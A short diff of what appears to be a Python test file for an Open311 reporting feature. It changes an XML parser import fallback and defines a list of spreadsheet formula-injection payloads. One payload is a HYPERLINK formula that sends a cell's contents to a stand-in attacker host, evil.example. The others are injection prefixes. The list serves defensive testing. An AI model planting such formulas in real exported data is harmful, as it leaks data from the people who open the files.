@@ -12,7 +12,7 @@ from tests.reporting.test_open311 import post_request
 
 try:  # the strictest parser there is, when it is installed; the standard one is strict about XML 1.0 too
     from defusedxml.ElementTree import fromstring as strict_parse
-except ImportError:  # pragma: no cover
+except ImportError:
     strict_parse = ET.fromstring
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
